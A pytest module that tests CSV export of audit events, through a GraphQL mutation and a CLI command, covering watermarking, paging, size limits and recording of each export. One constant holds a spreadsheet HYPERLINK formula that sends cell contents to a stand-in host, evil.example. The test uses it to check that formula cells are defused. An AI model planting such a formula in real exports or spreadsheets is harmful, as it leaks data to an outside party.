"""The audit trail as CSV: ``exportAuditEvents`` (a file in S3 behind a short-lived link)
and ``dangan audit events`` — the same events as the query, cells safe to open in a
spreadsheet, and each export recorded in the trail."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest

from dangan.devstack import Endpoints
from dangan.services import audit_export
from dangan.services.audit_export import HEADER
from dangan.settings import Settings
from dangan.tenants.scope import raw_connection, run_in_tenant
from tests.audit.events import event_of, events_of, post
from tests.audit.reading import EXPORT, audit_events
from tests.support.api import Api
from tests.support.world import World
from tests.test_cli import DANGAN, cli_env

LIST = "query CsvList { customers(first: 50) { nodes { id phone idNumber } } }"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def sales_filter(world: World) -> dict[str, Any]:
    return {"actor": {"kind": "USER", "id": world["alpha"].people["sales"].identity_id}}


async def all_events(api: Api, token: str, filter: dict[str, Any]) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    after = None
    while True:
        reply, _ = await audit_events(api, token, filter, first=200, after=after)
        page = reply.ok()["auditEvents"]
        events += page["nodes"]
        if not page["pageInfo"]["hasNextPage"]:
            return events
        after = page["pageInfo"]["endCursor"]


def parse(data: bytes) -> tuple[str, list[dict[str, str]]]:
    """The watermark, and the events by column name."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[1]) == HEADER
    return rows[0][0], [dict(zip(HEADER, row, strict=True)) for row in rows[2:]]


def assert_same(rows: list[dict[str, str]], events: list[dict[str, Any]]) -> None:
    assert [int(row["seq"]) for row in rows] == [event["seq"] for event in events]
    for row, event in zip(rows, events, strict=True):
        assert row["requestId"] == event["requestId"]
        assert row["actorName"] == (event["actor"]["name"] or "")
        assert row["actions"].split(";") == event["actions"]
        assert row["operationType"] == event["operationType"].lower()
        assert row["outcome"] == event["outcome"].lower()
        assert int(row["customerCount"]) == event["customerCount"]
        assert [i for i in row["customerIds"].split(";") if i] == event["customerIds"]
        assert orjson.loads(row["variables"]) == event["variables"]
        fields = orjson.loads(row["fields"])
        assert {
            (kind, name, level) for kind, names in fields.items() for name, level in names.items()
        } == {
            (f["type"], f["field"], ",".join(x.lower() for x in f["levels"]))
            for f in event["fields"]
        }


async def download(url: str) -> bytes:
    async with httpx.AsyncClient() as client:
        reply = await client.get(url)
    assert reply.status_code == 200, reply.text
    return reply.content


async def test_the_export_holds_the_events_the_query_shows(api: Api, world: World) -> None:
    sales, auditor = world["alpha"].tokens["sales"], world["alpha"].tokens["auditor"]
    (await post(api, "alpha", sales, LIST))[0].ok()
    expected = await all_events(api, auditor, sales_filter(world))

    reply, request_id = await post(api, "alpha", auditor, EXPORT, {"filter": sales_filter(world)})

    link = reply.ok()["exportAuditEvents"]
    assert link["events"] == len(expected) > 0
    watermark, rows = parse(await download(link["url"]))
    assert watermark.startswith("CONFIDENTIAL") and "alpha-auditor" in watermark
    assert f"events: {len(expected)}" in watermark
    assert_same(rows, expected)
    phone_levels = {
        orjson.loads(row["fields"]).get("Customer", {}).get("phone") for row in rows
    } - {None}
    assert phone_levels == {"full"}  # the salesperson's own customers
    event = await event_of(world["alpha"].ref, request_id)
    assert event["actions"] == ["exportAuditEvents"] and event["operation_type"] == "mutation"
    assert event["variables"] == {"filter": sales_filter(world)}


async def test_cells_a_spreadsheet_would_run_are_defused(api: Api, world: World) -> None:
    sales = world["alpha"].tokens["sales"]
    reply = await api.client.post(
        "/t/alpha/graphql",
        json={"query": LIST},
        headers={"Authorization": f"Bearer {sales}", "User-Agent": FORMULA},
    )
    request_id = reply.headers["X-Request-Id"]

    exported, _ = await post(
        api, "alpha", world["alpha"].tokens["auditor"], EXPORT, {"filter": sales_filter(world)}
    )

    _, rows = parse(await download(exported.ok()["exportAuditEvents"]["url"]))
    (row,) = [row for row in rows if row["requestId"] == request_id]
    assert row["userAgent"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


async def test_too_many_events_for_one_request_are_refused(
    api: Api, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_export, "MAX_EVENTS", 1)

    reply, _ = await post(api, "alpha", world["alpha"].tokens["auditor"], EXPORT, {"filter": None})

    assert reply.codes == ["BAD_USER_INPUT"] and reply.data is None
    assert "dangan audit events" in reply.errors[0]["message"]


@pytest.fixture(scope="module")
def dangan(
    settings: Settings, endpoints: Endpoints, tmp_path_factory: pytest.TempPathFactory
) -> Any:
    env = cli_env(settings, endpoints, tmp_path_factory.mktemp("cliaudit") / "data")

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [str(DANGAN), "audit", *args], env=env, capture_output=True, text=True, timeout=120
        )
        assert "Traceback" not in done.stderr, done.stderr
        return done

    return run


async def test_the_command_writes_the_same_csv_and_is_recorded(
    api: Api, world: World, dangan: Any, tmp_path: Path
) -> None:
    auditor = world["alpha"].tokens["auditor"]
    sales_id = str(world["alpha"].people["sales"].identity_id)
    expected = await all_events(api, auditor, sales_filter(world))
    target = tmp_path / "audit.csv"

    done = dangan(
        "events", "--tenant", "alpha", "--actor-kind", "user", "--actor-id", sales_id,
        "--csv", str(target),
    )  # fmt: skip

    assert done.returncode == 0, done.stderr
    assert f"{len(expected)} event(s) written" in done.stdout
    watermark, rows = parse(target.read_bytes())
    assert "dangan audit events" in watermark
    assert_same(rows, expected)
    assert not (tmp_path / "audit.csv.partial").exists()
    (recorded,) = [
        e
        for e in await audit_events_of_command(world)
        if e["variables"].items()
        >= {"actorKind": "user", "actorId": int(sales_id), "csv": True}.items()
    ]
    assert (recorded["actor_kind"], recorded["operation_type"]) == ("system", "cli")
    assert recorded["variables"]["command"] == "dangan audit events"
    assert recorded["variables"]["osUser"]

    listed = dangan("events", "--tenant", "alpha", "--action", "exportAuditEvents", "--limit", "2")
    assert listed.returncode == 0 and "exportAuditEvents" in listed.stdout

    wrong = dangan("events", "--tenant", "alpha", "--actor-id", sales_id)
    assert wrong.returncode == 2 and "kind" in wrong.stderr


async def audit_events_of_command(world: World) -> list[dict[str, Any]]:
    """The events ``dangan audit events`` recorded in alpha."""

    async def ids() -> list[str]:
        rows = await raw_connection().fetch(
            "SELECT request_id FROM audit_event WHERE 'audit.events' = ANY(actions)"
        )
        return [row["request_id"] for row in rows]

    found: list[dict[str, Any]] = []
    for request_id in await run_in_tenant(world["alpha"].ref, ids):
        found += await events_of(world["alpha"].ref, request_id)
    return found
